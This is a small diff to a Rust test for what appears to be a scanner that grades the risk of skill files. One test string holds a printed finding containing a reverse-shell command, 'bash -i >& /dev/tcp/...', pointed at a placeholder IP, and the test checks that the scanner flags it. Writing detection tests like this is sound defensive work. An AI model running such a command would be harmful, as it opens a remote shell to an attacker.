@@ -80,7 +80,8 @@ mod tests {
             let text = format!("{before}\n\n```bash\n{CHAIN}\n```\n");
             assert_eq!(heaviest("SKILL.md", &text), Some(Tier::Confirm), "{before}");
         }
-        let printed = "```sh\nskills scan x\n  findings:\n    └─ bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n";
+        let printed =
+            "```sh\nskills scan x\n  findings:\n    └─ bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n";
         assert_eq!(heaviest("SKILL.md", printed), Some(Tier::Confirm));
     }
 
